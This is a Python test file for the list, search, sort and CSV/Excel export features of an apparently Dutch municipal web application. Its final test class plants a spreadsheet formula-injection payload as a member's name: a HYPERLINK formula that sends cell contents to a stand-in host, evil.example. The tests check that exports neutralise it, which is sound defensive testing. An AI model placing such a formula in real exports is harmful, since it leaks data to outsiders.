"""The department and member lists: filtering, sorting and exporting to CSV and Excel."""

import csv
import io
from http import HTTPStatus

import pytest
from openpyxl import load_workbook

from daadkracht.accounts.models import User
from daadkracht.tenancy.roles import Role
from daadkracht.testing.factories import DepartmentFactory, MembershipFactory, UserFactory

DEPARTMENTS_URL = "/alfa/diensten/"
MEMBERS_URL = "/alfa/leden/"


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Disposition"].endswith('.csv"')
    text = response.getvalue().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def xlsx_rows(response) -> list[list[object]]:
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Disposition"].endswith('.xlsx"')
    workbook = load_workbook(io.BytesIO(response.getvalue()), read_only=True)
    sheet = workbook.active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def departments(world):
    """Three more departments in A, with heads, members and a description to search."""
    a = world.a
    head = world.users["editor"]
    energie = DepartmentFactory.create(
        municipality=a, name="Energie", description="Zonnepanelen", head=head
    )
    DepartmentFactory.create(municipality=a, name="Wonen", description="Renovatie en energie")
    DepartmentFactory.create(municipality=a, name="Aankoop")
    for n in range(3):
        MembershipFactory.create(
            user=UserFactory.create(email=f"energie{n}@alfa.test"),
            municipality=a,
            department=energie,
        )
    return world


def names(response) -> list[str]:
    return [d.name for d in response.context["departments"]]


class TestDepartmentList:
    def test_sorted_by_name_by_default(self, departments):
        response = departments.client_for("viewer").get(DEPARTMENTS_URL)

        assert names(response) == ["Aankoop", "Energie", "Groendienst", "Mobiliteit", "Wonen"]

    def test_sorting_descending_and_by_member_count(self, departments):
        viewer = departments.client_for("viewer")

        assert names(viewer.get(f"{DEPARTMENTS_URL}?sort=-name"))[0] == "Wonen"
        by_members = names(viewer.get(f"{DEPARTMENTS_URL}?sort=-members"))
        assert by_members[:2] == ["Energie", "Mobiliteit"]

    def test_departments_without_a_head_come_last_in_both_directions(self, departments):
        viewer = departments.client_for("viewer")

        assert names(viewer.get(f"{DEPARTMENTS_URL}?sort=head"))[0] == "Energie"
        assert names(viewer.get(f"{DEPARTMENTS_URL}?sort=-head"))[0] == "Energie"

    def test_unknown_sort_falls_back_to_name(self, departments):
        response = departments.client_for("viewer").get(f"{DEPARTMENTS_URL}?sort=password")

        assert response.status_code == HTTPStatus.OK
        assert names(response)[0] == "Aankoop"

    def test_search_finds_name_and_description(self, departments):
        response = departments.client_for("viewer").get(f"{DEPARTMENTS_URL}?q=energie")

        assert names(response) == ["Energie", "Wonen"]
        assert response.context["search"] == "energie"
        assert b'value="energie"' in response.content

    def test_search_without_result_shows_no_rows(self, departments):
        response = departments.client_for("viewer").get(f"{DEPARTMENTS_URL}?q=zzzz")

        assert response.status_code == HTTPStatus.OK
        assert names(response) == []

    def test_csv_export_contains_every_department_with_its_figures(self, departments):
        rows = csv_rows(departments.client_for("viewer").get(f"{DEPARTMENTS_URL}?export=csv"))

        assert len(rows[0]) == 5
        body = {row[0]: row for row in rows[1:]}
        assert set(body) == {"Aankoop", "Energie", "Groendienst", "Mobiliteit", "Wonen"}
        assert body["Energie"][1] == "Zonnepanelen"
        assert body["Energie"][2] == departments.users["editor"].full_name
        assert body["Energie"][4] == "3"
        assert body["Mobiliteit"][4] == "1"

    def test_exports_follow_the_search_and_sort(self, departments):
        viewer = departments.client_for("viewer")

        rows = csv_rows(viewer.get(f"{DEPARTMENTS_URL}?q=energie&sort=-name&export=csv"))

        assert [row[0] for row in rows[1:]] == ["Wonen", "Energie"]

    def test_xlsx_export_opens_in_excel_with_the_same_rows(self, departments):
        rows = xlsx_rows(departments.client_for("viewer").get(f"{DEPARTMENTS_URL}?export=xlsx"))

        assert len(rows) == 6
        assert [row[0] for row in rows[1:]] == [
            "Aankoop",
            "Energie",
            "Groendienst",
            "Mobiliteit",
            "Wonen",
        ]
        energie = rows[2]
        assert energie[1] == "Zonnepanelen"
        assert energie[4] == 3

    def test_trashed_departments_are_not_listed_or_exported(self, departments, coordinator):
        coordinator.post(f"/alfa/diensten/{departments.department_a.pk}/verwijderen/")

        assert "Mobiliteit" not in names(coordinator.get(DEPARTMENTS_URL))
        rows = csv_rows(coordinator.get(f"{DEPARTMENTS_URL}?export=csv"))
        assert "Mobiliteit" not in [row[0] for row in rows]


MEMBER_NAMES = {
    "coach@alfa.test": "Bart Coach",
    "coordinator@alfa.test": "Carla Coordinator",
    "editor@alfa.test": "Dirk Editor",
    "viewer@alfa.test": "Els Viewer",
}


@pytest.fixture
def members(world):
    """One more member; everyone gets a name that sorts the same in every language."""
    for email, full_name in MEMBER_NAMES.items():
        User.objects.filter(email=email).update(full_name=full_name)
    MembershipFactory.create(
        user=UserFactory.create(email="anna@alfa.test", full_name="Anna Aerts"),
        municipality=world.a,
        role=Role.VIEWER,
        department=world.other_department_a,
    )
    return world


def member_emails(response) -> list[str]:
    return [m.user.email for m in response.context["members"]]


class TestMemberList:
    def test_filter_by_role(self, members, coordinator):
        response = coordinator.get(f"{MEMBERS_URL}?role=viewer")

        assert sorted(member_emails(response)) == ["anna@alfa.test", "viewer@alfa.test"]
        assert response.context["filters"]["role"] == "viewer"

    def test_filter_by_department(self, members, coordinator):
        response = coordinator.get(f"{MEMBERS_URL}?department={members.other_department_a.pk}")

        assert member_emails(response) == ["anna@alfa.test"]

    def test_search_by_name_or_email(self, members, coordinator):
        assert member_emails(coordinator.get(f"{MEMBERS_URL}?q=aerts")) == ["anna@alfa.test"]
        assert member_emails(coordinator.get(f"{MEMBERS_URL}?q=COACH@")) == ["coach@alfa.test"]

    def test_filters_combine(self, members, coordinator):
        response = coordinator.get(
            f"{MEMBERS_URL}?role=viewer&department={members.department_a.pk}"
        )

        assert member_emails(response) == []

    def test_sorted_by_name_by_default(self, members, coordinator):
        assert member_emails(coordinator.get(MEMBERS_URL)) == [
            "anna@alfa.test",
            "coach@alfa.test",
            "coordinator@alfa.test",
            "editor@alfa.test",
            "viewer@alfa.test",
        ]

    def test_members_without_department_come_last_in_both_directions(self, members, coordinator):
        ascending = member_emails(coordinator.get(f"{MEMBERS_URL}?sort=department"))
        descending = member_emails(coordinator.get(f"{MEMBERS_URL}?sort=-department"))

        assert ascending[:2] == ["anna@alfa.test", "editor@alfa.test"]
        assert descending[:2] == ["editor@alfa.test", "anna@alfa.test"]
        assert descending[2:] == ["viewer@alfa.test", "coordinator@alfa.test", "coach@alfa.test"]

    def test_csv_export_follows_the_filters(self, members, coordinator):
        rows = csv_rows(coordinator.get(f"{MEMBERS_URL}?role=viewer&export=csv"))

        assert len(rows[0]) == 4
        assert sorted(row[1] for row in rows[1:]) == ["anna@alfa.test", "viewer@alfa.test"]
        anna = next(row for row in rows if row[1] == "anna@alfa.test")
        assert anna[0] == "Anna Aerts"
        assert anna[3] == "Groendienst"

    def test_xlsx_export_lists_every_member(self, members, coordinator):
        rows = xlsx_rows(coordinator.get(f"{MEMBERS_URL}?export=xlsx"))

        assert {row[1] for row in rows[1:]} == {
            "anna@alfa.test",
            *(f"{role}@alfa.test" for role in Role.values),
        }


class TestExportsCannotCarryFormulas:
    """A name someone typed must not become a formula in the coordinator's spreadsheet."""

    FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Open")'

    @pytest.fixture
    def formula_member(self, world):
        MembershipFactory.create(
            user=UserFactory.create(email="sluw@alfa.test", full_name=self.FORMULA),
            municipality=world.a,
            role=Role.VIEWER,
        )
        return world

    def test_csv_cells_that_look_like_formulas_are_quoted(self, formula_member, coordinator):
        rows = csv_rows(coordinator.get(f"{MEMBERS_URL}?export=csv"))

        row = next(row for row in rows if row[1] == "sluw@alfa.test")
        assert row[0] == "'" + self.FORMULA
        assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)

    def test_xlsx_cells_that_look_like_formulas_stay_text(self, formula_member, coordinator):
        response = coordinator.get(f"{MEMBERS_URL}?export=xlsx")
        sheet = load_workbook(io.BytesIO(response.getvalue())).active
        assert sheet is not None

        cell = next(row[0] for row in sheet.iter_rows() if row[1].value == "sluw@alfa.test")
        assert cell.value == "'" + self.FORMULA
        assert cell.data_type == "s"

    def test_numbers_stay_numbers(self, departments):
        rows = xlsx_rows(departments.client_for("viewer").get(f"{DEPARTMENTS_URL}?export=xlsx"))

        assert {type(row[4]) for row in rows[1:]} == {int}
